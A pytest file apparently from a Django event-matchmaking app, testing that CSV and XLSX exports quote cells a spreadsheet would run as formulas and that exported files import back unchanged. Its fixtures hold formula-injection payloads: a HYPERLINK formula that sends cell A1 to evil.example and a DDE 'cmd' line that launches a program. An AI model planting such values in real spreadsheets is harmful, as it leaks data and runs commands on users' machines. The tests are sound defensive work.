"""Text that a spreadsheet would run as a formula comes out of every export behind a quote, in one
place (hostcity.shared.spreadsheets), and goes back in unchanged (finding 6)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from hostcity.matchmaking.imports import COMPANY_COLUMNS, import_companies
from hostcity.matchmaking.models import Company
from hostcity.shared.spreadsheets import csv_bytes, read_table, xlsx_bytes
from tests.factories import make_user
from tests.matchmaking.conftest import edition, matchmaking  # noqa: F401  (fixtures)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click for the agenda")'
FORM = {
    "name_en": EVIL,
    "name_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
    "country": "DEU",
    "sector": "manufacturing",
    "offers": "+1 (555) 0100",
    "needs": "-2+3",
    "languages": "en",
    "contact_name": "Anna",
    "email": "evil@evil.example",
}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_start_is_quoted(start):
    from hostcity.shared.spreadsheets import neutralised

    assert neutralised(start + "1+1") == "'" + start + "1+1"
    assert neutralised("a" + start) == "a" + start
    assert neutralised(-5) == -5 and neutralised(None) is None


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_a_name_from_the_public_form_comes_out_of_the_staff_exports_as_text(client, matchmaking):  # noqa: F811
    response = client.post(
        f"/match/{matchmaking.code}/", {**FORM, "sessions": [matchmaking.sessions.first().pk]}
    )
    assert response.status_code == 302
    assert Company.objects.get().name_en == EVIL  # kept as given: only exports quote it
    client.force_login(make_user("platform_organizer"))
    base = f"/matchmaking/{matchmaking.pk}/companies/export"
    rows = _csv_cells(client.get(base + ".csv").content)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["name_en"] == "'" + EVIL
    assert cells["name_zh"].startswith("'@") and cells["offers"] == "'+1 (555) 0100"
    assert cells["needs"] == "'-2+3" and cells["contact_name"] == "Anna"
    sheet = _xlsx_cells(client.get(base + ".xlsx").content)
    header = [value for value, _type in sheet[0]]
    by_name = dict(zip(header, sheet[1], strict=True))
    assert by_name["name_en"] == ("'" + EVIL, "s")  # a string, not a formula ("f")
    assert all(kind != "f" for row in sheet for _value, kind in row)


def test_an_exported_file_imports_back_unchanged(client, matchmaking):  # noqa: F811
    client.post(f"/match/{matchmaking.code}/", {**FORM, "sessions": [matchmaking.sessions.first().pk]})
    client.force_login(make_user("platform_organizer"))
    exported = client.get(f"/matchmaking/{matchmaking.pk}/companies/export.csv").content
    # The import's own columns of the export, cells as the export wrote them (quoted).
    cells = [row[: len(COMPANY_COLUMNS)] for row in _csv_cells(exported)]
    out = io.StringIO()
    csv.writer(out).writerows(cells)
    content = out.getvalue().encode()
    assert "'=HYPERLINK" in out.getvalue()
    rows = read_table(SimpleUploadedFile("c.csv", content), required=(), known=COMPANY_COLUMNS)
    assert rows[0].values["name_en"] == EVIL and rows[0].values["needs"] == "-2+3"
    Company.objects.all().delete()
    report = import_companies(matchmaking, SimpleUploadedFile("c.csv", content), apply=True)
    assert report.ok, report.errors
    assert Company.objects.get().name_en == EVIL


def test_headers_are_neutralised_too():
    assert _csv_cells(csv_bytes(["=cmd"], [])) == [["'=cmd"]]
    assert _xlsx_cells(xlsx_bytes("t", ["=cmd"], [[1]]))[0] == [("'=cmd", "s")]
